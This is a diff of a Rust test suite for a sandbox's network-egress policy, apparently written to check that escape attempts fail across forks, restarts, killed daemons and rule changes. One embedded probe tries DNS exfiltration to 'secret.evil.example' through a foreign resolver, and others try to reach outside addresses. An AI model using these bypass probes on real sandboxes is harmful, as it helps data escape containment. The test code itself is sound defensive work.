@@ -8,7 +8,7 @@ const LEAVE: &str = "reached('alone.example', EVIL4, EVIL6)";
 /// The policy after one step of its life.
 macro_rules! keep {
     ($name:literal, $($step:ident),+) => {
-        Attempt::new($name, "net_kept", ALLOWED, LEAVE).after(&[$(Step::$step),+])
+        Attempt::new($name, "policy", ALLOWED, LEAVE).after(&[$(Step::$step),+])
     };
 }
 
@@ -20,6 +20,8 @@ macro_rules! hold {
 }
 
 const TIGHT: Step = Step::Change(&["allow www.allowed.example"]);
+/// As it was before.
+const WIDE: Step = Step::Change(&["allow allowed.example", "allow *.allowed.example"]);
 const DENIED: Step = Step::Change(&["allow *.allowed.example", "deny streams.allowed.example"]);
 
 /// Bytes go back and forth for a while after the change: the cut may take a moment.
@@ -76,8 +78,9 @@ const GAP_IN_NAMES: &str = "
 ready()
 limit = time.monotonic() + 3
 while time.monotonic() < limit:
-    if MARK in ask('secret.evil.example', 16):
-        verdict(True)
+    for server in (FOREIGN_RESOLVER4, resolver()):
+        if MARK in ask('secret.evil.example', 16, server):
+            verdict(True)
 verdict(False)";
 
 #[rustfmt::skip]
@@ -87,24 +90,31 @@ pub(crate) const ATTEMPTS: &[Attempt] = &[
     keep!("cannot_lose_the_policy_by_a_fork", Fork),
     keep!("cannot_lose_the_policy_by_a_snapshot", Snapshot),
     keep!("cannot_lose_the_policy_by_the_pool", Pool),
-    keep!("cannot_lose_the_policy_by_another_daemon", RestartDaemon),
+    keep!("cannot_lose_the_policy_by_a_whole_restart", RestartAll),
+    keep!("cannot_lose_the_policy_by_idleness", Idle),
     keep!("cannot_lose_the_policy_by_the_death_of_the_daemon", KillDaemon),
     keep!("cannot_lose_the_policy_by_the_death_of_the_network", KillNetwork),
     keep!("cannot_lose_the_policy_by_the_death_of_the_launcher", KillLauncher),
-    keep!("cannot_lose_the_policy_by_all_of_it",
-        Stop, Start, KillNetwork, Fork, RestartDaemon, Snapshot, KillLauncher, Stop, Start),
-    hold!("cannot_go_on_after_the_rule_is_gone", "net_cut", GO_ON, TIGHT),
-    hold!("cannot_go_on_after_a_denial", "net_cut", GO_ON, DENIED),
-    hold!("cannot_go_on_after_none", "net_cut", GO_ON, Step::Close),
-    hold!("cannot_be_sent_to_after_the_rule_is_gone", "net_cut", PULL, TIGHT),
-    hold!("cannot_use_an_address_after_the_rule_is_gone", "net_rules", REMEMBER, TIGHT),
-    hold!("cannot_inherit_an_address_after_the_death_of_the_network", "net_names", INHERIT,
+    keep!("cannot_lose_the_policy_by_the_death_of_the_keeper", KillKeeper),
+    Attempt::new("cannot_lose_the_policy_by_a_change", "policy", ALLOWED, LEAVE)
+        .after(&[Step::Change(&["deny *.allowed.example"]), WIDE]),
+    Attempt::new("cannot_lose_the_policy_by_all_of_it", "policy", ALLOWED, LEAVE).after(&[
+        Step::Idle, Step::Pool, Step::Stop, Step::Start, Step::KillNetwork, Step::KillDaemon,
+        Step::KillLauncher, Step::KillKeeper, Step::Change(&["deny *.allowed.example"]), WIDE,
+        Step::RestartAll, Step::Stop, Step::Start, Step::KillNetwork,
+    ]),
+    hold!("cannot_go_on_after_the_rule_is_gone", "cut", GO_ON, TIGHT),
+    hold!("cannot_go_on_after_a_denial", "cut", GO_ON, DENIED),
+    hold!("cannot_go_on_after_none", "cut", GO_ON, Step::Close),
+    hold!("cannot_be_sent_to_after_the_rule_is_gone", "cut", PULL, TIGHT),
+    hold!("cannot_use_an_address_after_the_rule_is_gone", "rules", REMEMBER, TIGHT),
+    hold!("cannot_inherit_an_address_after_the_death_of_the_network", "rules,host", INHERIT,
         TIGHT, Step::KillNetwork),
-    hold!("cannot_leave_while_the_network_is_dead", "net_closed", GAP, Step::KillNetwork),
-    hold!("cannot_leave_while_the_daemon_is_dead", "net_closed", GAP, Step::KillDaemon),
-    hold!("cannot_leave_while_the_launcher_is_dead", "net_closed", GAP, Step::KillLauncher),
-    hold!("cannot_look_up_while_the_network_is_dead", "net_closed", GAP_IN_NAMES,
+    hold!("cannot_leave_while_the_network_is_dead", "network_namespace", GAP, Step::KillNetwork),
+    hold!("cannot_leave_while_the_daemon_is_dead", "network_namespace", GAP, Step::KillDaemon),
+    hold!("cannot_leave_while_the_launcher_is_dead", "network_namespace", GAP, Step::KillLauncher),
+    hold!("cannot_look_up_while_the_network_is_dead", "network_namespace", GAP_IN_NAMES,
         Step::KillNetwork),
-    Attempt::new("cannot_open_a_policy_of_none_by_a_restart", "net_kept", Policy::None, LEAVE)
+    Attempt::new("cannot_open_a_policy_of_none_by_a_restart", "network_namespace", Policy::None, LEAVE)
         .after(&[Step::Stop, Step::Start]),
 ];
